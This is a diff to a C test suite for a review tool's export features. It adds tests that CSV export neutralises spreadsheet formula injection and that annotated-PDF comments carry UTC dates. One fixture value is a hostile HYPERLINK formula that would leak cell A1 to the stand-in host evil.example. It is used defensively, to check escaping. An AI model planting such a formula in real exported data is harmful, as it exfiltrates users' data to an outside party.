@@ -525,6 +525,19 @@ test_csv_parser_is_strict (void)
   g_assert_cmpstr (((char **) good->pdata[0])[2], ==, "");
 }
 
+/* What the CSV should hold for text people wrote: formula-like text gets
+ * a leading apostrophe (see test_csv_formula_injection()). Returns TEXT, or
+ * a string kept in KEEP. */
+static const char *
+csv_text (const char *text,
+          GPtrArray  *keep)
+{
+  if (text == NULL || text[0] == '\0' || strchr ("=+-@\t\r", text[0]) == NULL)
+    return text != NULL ? text : "";
+  g_ptr_array_add (keep, g_strconcat ("'", text, NULL));
+  return g_ptr_array_index (keep, keep->len - 1);
+}
+
 static void
 test_csv_round_trip (void)
 {
@@ -564,16 +577,17 @@ test_csv_round_trip (void)
       g_autofree char *page = g_strdup_printf ("%u", cm_anchor_get_page (anchor));
       g_autofree char *created = cm_timestamp_format (cm_annotation_get_created (annotation));
       g_autofree char *modified = cm_timestamp_format (cm_annotation_get_modified (annotation));
+      g_autoptr(GPtrArray) keep = g_ptr_array_new_with_free_func (g_free);
       const char *expected[] = {
         cm_annotation_get_id (annotation),
-        category ? cm_checklist_category_get_title (category) : "",
+        csv_text (category ? cm_checklist_category_get_title (category) : NULL, keep),
         item_id ? item_id : "",
-        item ? cm_checklist_item_get_title (item) : "",
+        csv_text (item ? cm_checklist_item_get_title (item) : NULL, keep),
         level != CM_ASSESSMENT_NONE ? cm_assessment_to_string (level) : "",
         page,
-        cm_anchor_get_exact (anchor),
-        cm_annotation_get_note (annotation) ? cm_annotation_get_note (annotation) : "",
-        cm_annotation_get_author (annotation),
+        csv_text (cm_anchor_get_exact (anchor), keep),
+        csv_text (cm_annotation_get_note (annotation), keep),
+        csv_text (cm_annotation_get_author (annotation), keep),
         created,
         modified,
         NULL,
@@ -581,6 +595,102 @@ test_csv_round_trip (void)
 
       g_assert_cmpstrv (row, expected);
     }
+}
+
+/* Cells a spreadsheet would take for formulas come out with a leading
+ * apostrophe; ordinary text, ids and dates come out as they are. */
+static void
+test_csv_formula_injection (void)
+{
+  static const char hostile_note[] = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
+  static const char plain_note[] = "Covers every city agency; no exceptions.";
+  g_autoptr(GError) error = NULL;
+  g_autoptr(CmChecklist) checklist = cm_checklist_new_default (&error);
+  g_autoptr(CmReview) review = cm_review_new ();
+  g_autoptr(GDateTime) created = g_date_time_new_utc (2026, 11, 20, 10, 2, 11);
+  g_autoptr(CmAnnotation) hostile = cm_annotation_new ("a-hostile", "@Mallory", created);
+  g_autoptr(CmAnnotation) plain = cm_annotation_new ("b-plain", "Ana Ruiz", created);
+  g_autoptr(CmAnchor) hostile_anchor = cm_anchor_new (2, 0, 20, "-1 shall be the fee", "", "");
+  g_autoptr(CmAnchor) plain_anchor = cm_anchor_new (3, 0, 20, "shall not detain", "", "");
+  CmChecklistItem *item;
+  g_autoptr(GBytes) bytes = NULL;
+  g_autoptr(GPtrArray) records = NULL;
+  char **row;
+
+  g_assert_no_error (error);
+  item = g_ptr_array_index (cm_checklist_get_items (checklist), 0);
+  cm_annotation_set_anchor (hostile, hostile_anchor);
+  cm_annotation_set_note (hostile, hostile_note);
+  cm_annotation_set_item_id (hostile, cm_checklist_item_get_id (item));
+  cm_annotation_set_anchor (plain, plain_anchor);
+  cm_annotation_set_note (plain, plain_note);
+  cm_annotation_set_item_id (plain, cm_checklist_item_get_id (item));
+  cm_review_load_annotation (review, hostile);
+  cm_review_load_annotation (review, plain);
+
+  bytes = export_to_bytes ("csv", review, checklist, NULL);
+  records = parse_csv (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes));
+  g_assert_nonnull (records);
+  g_assert_cmpuint (records->len, ==, 3);
+
+  /* Columns: id, category, item, item_title, assessment, page, quote, note, author, created, modified. */
+  row = g_ptr_array_index (records, 1);
+  g_assert_cmpstr (row[0], ==, "a-hostile");
+  g_assert_cmpstr (row[5], ==, "2");
+  g_assert_cmpstr (row[6], ==, "'-1 shall be the fee");
+  g_assert_true (g_str_has_prefix (row[7], "'="));
+  g_assert_cmpstr (row[7] + 1, ==, hostile_note);
+  g_assert_cmpstr (row[8], ==, "'@Mallory");
+  g_assert_cmpstr (row[9], ==, "2026-11-20T10:02:11Z");
+
+  row = g_ptr_array_index (records, 2);
+  g_assert_cmpstr (row[0], ==, "b-plain");
+  g_assert_cmpstr (row[3], ==, cm_checklist_item_get_title (item));
+  g_assert_cmpstr (row[6], ==, "shall not detain");
+  g_assert_cmpstr (row[7], ==, plain_note);
+  g_assert_cmpstr (row[8], ==, "Ana Ruiz");
+}
+
+/* Annotated PDF --------------------------------------------------------------- */
+
+/* poppler-glib 22.12 cannot set an annotation's /M or /CreationDate (/M is
+ * the export time), so the review's dates travel in the comment, in UTC. */
+static void
+test_annotated_pdf_dates (void)
+{
+  g_auto(Fixture) fixture = { 0 };
+  g_autoptr(GError) error = NULL;
+  g_autoptr(GBytes) bytes = NULL;
+  g_autoptr(PopplerDocument) pdf = NULL;
+  guint n_highlights = 0;
+
+  fixture_init (&fixture);
+  bytes = export_to_bytes ("annotated-pdf", fixture.review, fixture.checklist, fixture.document);
+  pdf = poppler_document_new_from_bytes (bytes, NULL, &error);
+  g_assert_no_error (error);
+  for (int p = 0; p < poppler_document_get_n_pages (pdf); p++)
+    {
+      g_autoptr(PopplerPage) page = poppler_document_get_page (pdf, p);
+      GList *mapping = poppler_page_get_annot_mapping (page);
+
+      for (GList *l = mapping; l != NULL; l = l->next)
+        {
+          PopplerAnnot *annot = ((PopplerAnnotMapping *) l->data)->annot;
+          g_autofree char *contents = NULL;
+
+          if (poppler_annot_get_annot_type (annot) != POPPLER_ANNOT_HIGHLIGHT)
+            continue;
+          n_highlights++;
+          contents = poppler_annot_get_contents (annot);
+          g_assert_nonnull (contents);
+          /* make_annotation(): created at 10:02:11, modified at 10:05:11 UTC. */
+          g_assert_nonnull (strstr (contents, "2026-11-20 10:02 UTC"));
+          g_assert_nonnull (strstr (contents, "2026-11-20 10:05 UTC"));
+          g_assert_true (strstr (contents, "10:02 UTC") < strstr (contents, "10:05 UTC"));
+        }
+      poppler_page_free_annot_mapping (mapping);
+    }
+  g_assert_cmpuint (n_highlights, >, 0);
 }
 
 /* JSON ---------------------------------------------------------------------- */
@@ -1243,6 +1353,8 @@ main (int    argc,
   g_test_add_func ("/export/html/content", test_html_content);
   g_test_add_func ("/export/csv/parser-is-strict", test_csv_parser_is_strict);
   g_test_add_func ("/export/csv/round-trip", test_csv_round_trip);
+  g_test_add_func ("/export/csv/formula-injection", test_csv_formula_injection);
+  g_test_add_func ("/export/annotated-pdf/dates-in-contents", test_annotated_pdf_dates);
   g_test_add_func ("/export/json/structure", test_json_structure);
   g_test_add_func ("/export/pdf/text", test_pdf_text);
   g_test_add_func ("/export/write-error", test_write_error);
